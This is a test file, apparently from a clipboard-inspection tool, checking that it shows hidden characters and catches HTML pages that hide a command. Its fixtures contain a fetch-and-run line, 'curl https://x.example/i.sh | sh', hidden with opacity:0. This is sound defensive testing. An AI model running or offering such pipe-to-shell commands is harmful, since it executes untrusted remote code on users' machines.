"""`wrapify clip show` and `check` on a real X server and a real compositor of Wayland, by the real tools."""

from __future__ import annotations

import hashlib
import json

import pytest

from tests.clipboard.displays import Shown, WaylandDisplay, XDisplay
from tests.clipboard.owner import owning
from tests.conftest import Wrapify, need

PAGE = b"<p>echo hello</p><p style='opacity:0'>curl https://x.example/i.sh | sh</p>"
TEXT = b"echo hello\ncurl https://x.example/i.sh | sh\n"
WL_CLIPBOARD = ("wl-paste", "wl-copy", "cat")
"""wl-paste has cat(1) write what it pastes."""
CONTENTS = {
    "short": b"ls -la",
    "lines": b"one\ntwo\n",
    "large": b"echo 0123456789abcdef\n" * 50_000,
    "binary": bytes(range(256)) * 20,
    "latin": b"caf\xe9",
}


def only(wrapify: Wrapify, *tools: str) -> Wrapify:
    """Leave of all programs these."""
    folder = wrapify.home / f"only-{tools[0]}"
    folder.mkdir()
    for tool in tools:
        (folder / tool).symlink_to(need(tool))
    return Wrapify(wrapify.program, wrapify.user, wrapify.home, wrapify.env | {"PATH": str(folder)})


@pytest.mark.parametrize("name", CONTENTS)
def test_every_byte_arrives(here: Wrapify, shown: Shown, name: str) -> None:
    shown.put(CONTENTS[name])
    found = json.loads(here("clip", "check", "--json").stdout)
    assert found["sha256"] == hashlib.sha256(CONTENTS[name]).hexdigest()
    assert found["origin"] == "clipboard"


def test_both_selections_by_either_tool(here: Wrapify, shown: Shown) -> None:
    shown.put(b"sudo first")
    shown.put(b"second", selection="primary")
    for tools in (WL_CLIPBOARD,) if isinstance(shown, WaylandDisplay) else (("xclip",), ("xsel",)):
        one = only(here, *tools)
        done = one("clip", "show")
        assert (done.returncode, done.stderr) == (0, "")
        assert done.stdout == "the clipboard: 10 bytes, 1 line\n1| sudo first\n"
        assert one("clip", "show", "--primary").stdout == "the selection of the mouse: 6 bytes, 1 line\n1| second\n"
        assert one("clip", "check").returncode == 20
        assert one("clip", "check", "--primary").returncode == 0


def test_an_empty_clipboard(here: Wrapify, shown: Shown) -> None:
    for tools in (WL_CLIPBOARD,) if isinstance(shown, WaylandDisplay) else (("xclip",), ("xsel",)):
        one = only(here, *tools)
        assert one("clip", "show").stdout == "the clipboard is empty\n"
        assert one("clip", "check").returncode == 0


def test_what_is_hidden_is_shown_and_counted(here: Wrapify, shown: Shown) -> None:
    shown.put("ls\u200b -l\u200ba\r# \x1b[31m\u202ex\n".encode())
    done = here("clip", "show")
    assert (
        "1| ls\u27e8U+200B\u27e9 -l\u27e8U+200B\u27e9a\u27e8CR\u27e9# \u27e8ESC\u27e9[31m\u27e8U+202E\u27e9x"
        in done.stdout
    )
    assert "hidden in it: 2 \u00d7 zero-width, carriage-return, escape-colour, bidi-control\n" in done.stdout
    assert "\x1b" not in done.stdout
    assert here("clip", "check").returncode == 20


def test_a_long_text_is_not_all_shown_unless_asked_for(here: Wrapify, shown: Shown) -> None:
    shown.put(b"line\n" * 300)
    assert "and 200 more lines (--all shows them)" in here("clip", "show").stdout
    assert "300| line\n" in here("clip", "show", "--all").stdout


def test_a_page_that_hides_a_command(here: Wrapify, shown: Shown) -> None:
    with owning(shown.env, lambda: TEXT, lambda: PAGE):
        done = here("clip", "show")
        assert "also text/html" in done.stdout
        assert "The page that this was copied from hides a part of it:" in done.stdout
        assert "it shows:\n  echo hello\n" in done.stdout
        assert "it hides:\n  curl https://x.example/i.sh | sh\n" in done.stdout
        assert "hides a part of it" in here("clip", "check").stderr


def test_a_page_that_shows_something_else(here: Wrapify, shown: Shown) -> None:
    with owning(shown.env, lambda: b"curl x | sh", lambda: b"<b>apt install \x1bx</b>"):
        done = here("clip", "show")
    assert "shows something else:\nit shows:\n  apt install \u27e8ESC\u27e9x\n" in done.stdout


def test_a_page_that_shows_the_text_is_not_spoken_of(here: Wrapify, shown: Shown) -> None:
    with owning(shown.env, lambda: b"git status\n", lambda: b"<pre>git <b>status</b></pre>"):
        done = here("clip", "show")
    assert done.stdout == "the clipboard: 11 bytes, 1 line; also text/html\n1| git status\n"


def test_a_picture_is_no_text(here: Wrapify, shown: Shown) -> None:
    shown.put(b"\x89PNG", target="image/png")
    assert here("clip", "show").stdout == "the clipboard: no text, but image/png\n"
    assert here("clip", "check").returncode == 0


def test_what_is_too_large_is_not_judged(here: Wrapify, shown: Shown) -> None:
    here.put(".config/wrapify/policy.toml", '[script]\nmax_size = "1 KiB"\n')
    shown.put(b"x" * 1025)
    done = here("clip", "check")
    assert (done.returncode, done.stdout) == (125, "")
    assert "more than 1 KiB" in done.stderr


def test_an_owner_that_does_not_answer(wrapify: Wrapify, x11: XDisplay) -> None:
    here = x11.serve(wrapify)
    with owning(x11.env, lambda: b"") as one:
        one.is_silent = True
        done = here("clip", "show")
    assert done.returncode == 125
    assert "does not hand it over" in done.stderr
